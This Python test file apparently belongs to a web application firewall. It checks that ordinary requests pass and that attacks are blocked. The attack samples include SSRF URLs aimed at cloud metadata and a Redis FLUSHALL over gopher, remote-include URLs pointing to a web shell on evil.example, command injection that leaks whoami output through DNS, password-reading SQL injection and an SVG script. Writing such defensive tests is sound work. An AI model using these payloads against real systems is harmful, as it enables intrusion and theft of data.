"""False positives found behind the WAF in real services, each beside the attack the rule is
for: a number is not a host, a URL is not an inclusion, a header list is not a command, a 4 GiB
byte count is not an overflow probe, and image bytes are never read as text."""

from __future__ import annotations

import json
from urllib.parse import quote, urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.gateway.waf.detect import Detector
from services.gateway.waf.fields import body_fields
from services.gateway.waf.media import looks_binary
from services.gateway.waf.policy import DEFAULT_CONTENT_TYPES, Policy
from services.gateway.waf.signatures.rule import Place
from services.gateway.waf.verdict import Verdict
from services.gateway.waf.view import RequestView
from tests.waftraffic.images import FORMATS, SIZES, image

pytestmark = pytest.mark.unit

DETECTOR = Detector()
HEADERS = (("Host", "api.example.com"), ("User-Agent", "okhttp/4.12.0"), ("Accept", "*/*"))
PL2 = Policy(paranoia_level=2)
IMAGES = Policy(content_types=DEFAULT_CONTENT_TYPES | {"image/*"})


def get(target: str) -> RequestView:
    return RequestView("GET", target, HEADERS)


def send(body: bytes, content_type: str | None, method: str = "POST") -> RequestView:
    typed = (("Content-Type", content_type),) if content_type else ()
    headers = (*HEADERS, *typed, ("Content-Length", str(len(body))))
    return RequestView(method, "/api/v1/things", headers, body)


def as_json(document: object) -> RequestView:
    return send(json.dumps(document).encode(), "application/json")


def ids(result: Verdict) -> set[str]:
    return {hit.rule.id for hit in result.hits}


def verdict(view: RequestView, policy: Policy | None = None) -> Verdict:
    return DETECTOR.inspect(view, policy or Policy())


# --- a number is not a host -----------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        {"bytes": 67108864},
        {"expires": 1767225600, "sig": "q0HIGxD8YbXW0nqd3wXbPVm6B9xbe9tQ2Dj1a7WnyHo"},
        {"ts": 1704448321123, "cb": 2852039166},
        {"lock": "1667487208:1"},
        {"range": "2130706433-4294967295"},
        {"id": 3232235777, "hex": "0x7f000001"},
        {"metadata": "include"},
    ],
)
def test_a_number_is_not_a_host(query: dict[str, object]) -> None:
    result = verdict(get(f"/api/v1/files?{urlencode(query)}"))
    assert not result.hits, result


@pytest.mark.parametrize(
    "url",
    [
        "http://2130706433/",  # 127.0.0.1 as one integer
        "http://2852039166/latest/meta-data/",  # the metadata address as one integer
        "//2852039166/latest",
        "http://0x7f000001:6379/",
        "http://0xa9.0xfe.0xa9.0xfe/",
        "http://0177.0.0.1/admin",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://[::]:22/",
        "https://user@169.254.169.254/latest/meta-data/iam/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://192.0.0.192/latest/user-data/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://10.0.0.5:11211/stats",
        "http://localtest.me:8080/",
        "http://a.127.0.0.1.nip.io/",
    ],
)
def test_ssrf_is_caught_where_the_host_is_in_a_url(url: str) -> None:
    for view in (get(f"/api/v1/preview?url={quote(url)}"), as_json({"webhook": url})):
        result = verdict(view)
        assert result.blocked, (url, result)
        assert "generic-006" in ids(result)


# --- a URL is not an inclusion ---------------------------------------------------------------

LOCAL_URLS = (
    "http://127.0.0.1:9999/push/abc",  # the Web Push double of the platform's tests
    "http://localhost:3000/api/webhooks/stripe",
    "http://127.0.0.1:51004/oauth2redirect",  # RFC 8252: a native app's loopback redirect
    "http://10.0.3.12:8080/events",
    "http://192.168.1.20/notify",
    "http://[::1]:8080/hook",
    "http://host.docker.internal:4000/webhook",
    "http://tickets.svc.cluster.local/callbacks",
    "http://203.0.113.7/dashboard",
)


@pytest.mark.parametrize("url", LOCAL_URLS)
def test_a_url_to_an_address_or_a_local_host_is_a_url_at_paranoia_level_1(url: str) -> None:
    subscription = {"endpoint": url, "keys": {"p256dh": "BNcRdreALRFXTkOOUHK1EtK2w", "auth": "tB"}}
    for view in (as_json(subscription), get(f"/authorize?{urlencode({'redirect_uri': url})}")):
        assert not verdict(view).blocked, url
        at_pl2 = verdict(view, PL2)
        assert at_pl2.blocked, url  # the loopback, private networks and bare addresses: PL2
        assert ids(at_pl2) & {"generic-007", "rfi-006"}


@pytest.mark.parametrize(
    "view",
    [
        get("/index.php?page=" + quote("http://203.0.113.7/shell.txt")),
        get("/index.php?page=http://203.0.113.7:8080/x/c99.php&cmd=id"),
        get("/view.php?file=" + quote("https://[2001:db8::1]/inc/x.php")),
        get("/view.php?file=https://2001:db8:0:1::29c8/gecko.php"),
        as_json({"template": "http://198.51.100.7/payload.inc"}),
        get("/index.php?page=" + quote("https://evil.example/s.txt?")),
        get("/plugins/x.php?_CONF[path]=https://evil.example/"),
    ],
)
def test_a_remote_include_is_a_url_in_an_include_shape(view: RequestView) -> None:
    result = verdict(view)
    assert result.blocked, result
    assert "rfi" in {hit.rule.category.value for hit in result.hits}


# --- a header list is not a command, a byte count is not an overflow ---------------------------


def test_signed_header_lists_are_not_shell_commands() -> None:
    for signed in ("content-type;host", "content-type;host;x-amz-date", "date;host"):
        query = urlencode({"X-Amz-SignedHeaders": signed, "X-Amz-Expires": 900})
        assert not verdict(get(f"/uploads/a.jpg?{query}")).hits, signed
    for attack in (";host $(whoami).x.example", "a;host -t txt x.example", "|date --set=x"):
        assert verdict(get(f"/api?q={quote(attack)}")).blocked, attack


def test_integer_boundaries_are_paranoia_level_2_and_the_float_crash_level_1() -> None:
    for size in ("2147483648", "4294967296", "2147483647", "18446744073709551615"):
        view = get(f"/api/v1/quota?max_bytes={size}")
        assert not verdict(view).blocked
        assert "sqli-024" in ids(verdict(view, PL2))
    assert verdict(get("/api/v1/x?i=2.2250738585072011e-308")).blocked
    assert verdict(as_json({"2.2250738585072011e-308": "foo"})).blocked


# --- image bytes are never read as text --------------------------------------------------------


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_image_bodies_are_never_read_as_text(fmt: str) -> None:
    media_type = FORMATS[fmt][0]
    for size in range(len(SIZES) - 1):
        data = image(fmt, size, 1)
        assert looks_binary(data)
        for declared in (media_type, "application/octet-stream"):
            view = send(data, declared, method="PUT")
            assert list(body_fields(view)) == []
            assert not verdict(view, IMAGES).hits


@given(st.binary(min_size=1, max_size=4096), st.sampled_from(["image/png", "video/mp4"]))
def test_no_bytes_of_a_binary_type_are_read(data: bytes, media_type: str) -> None:
    assert list(body_fields(send(data, media_type, method="PUT"))) == []


def multipart(part_headers: str, content: bytes, filename: str | None = "photo.jpg") -> bytes:
    named = f'; filename="{filename}"' if filename is not None else ""
    return (
        f'--b0undary\r\nContent-Disposition: form-data; name="file"{named}\r\n'
        f"{part_headers}\r\n".encode()
        + content
        + b"\r\n--b0undary--\r\n"
    )


MULTIPART = "multipart/form-data; boundary=b0undary"


def test_an_uploaded_file_without_a_type_is_read_only_when_it_is_text() -> None:
    jpeg = image("jpeg", 1, 0)
    for part_headers in ("", "Content-Type: image/jpeg\r\n", "Content-Type: application/pdf\r\n"):
        places = [
            place for place, _, _ in body_fields(send(multipart(part_headers, jpeg), MULTIPART))
        ]
        assert Place.FILENAME in places  # the file's name is read, its bytes are not
        assert Place.ARG not in places
    payload = b"name,comment\r\nbob,' UNION SELECT password FROM users--\r\n"
    result = verdict(send(multipart("", payload, "export.csv"), MULTIPART))
    assert result.blocked
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    svg_upload = send(multipart("Content-Type: image/svg+xml\r\n", svg, "a.svg"), MULTIPART)
    assert verdict(svg_upload).blocked  # SVG is text: its script is read


def test_a_form_field_is_read_whatever_type_it_declares() -> None:
    """A field without a file name reaches the application as a parameter, so declaring it an
    image does not hide it (CRS reads such fields too)."""
    sqli = b"1' UNION SELECT password FROM users--"
    view = send(multipart("Content-Type: image/jpeg\r\n", sqli, filename=None), MULTIPART)
    assert verdict(view).blocked


def test_binary_sent_as_json_or_untyped_is_not_read_as_text() -> None:
    png = image("png", 0, 0)
    assert list(body_fields(send(png, "application/json"))) == []
    assert list(body_fields(send(png, None))) == []
    assert verdict(send(png, None)).blocked  # protocol-020: a body needs a type
    assert ids(verdict(send(png, None))) == {"protocol-020"}
    broken = b'{"q": "1\' UNION SELECT password FROM users--"'  # text that does not parse
    assert verdict(send(broken, "application/json")).blocked


def test_a_java_serialization_stream_is_never_taken_for_binary() -> None:
    stream = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1" * 8
    assert not looks_binary(stream)
    result = verdict(send(multipart("", stream, "session.bin"), MULTIPART))
    assert "java-005" in ids(result)


def test_a_route_accepts_a_type_family_with_a_wildcard() -> None:
    png = send(image("png", 0, 0), "image/png", method="PUT")
    assert "protocol-008" in ids(verdict(png))
    assert not verdict(png, IMAGES).hits
    zip_body = send(b"PK\x03\x04" + bytes(64), "application/zip", method="PUT")
    assert "protocol-008" in ids(verdict(zip_body, IMAGES))
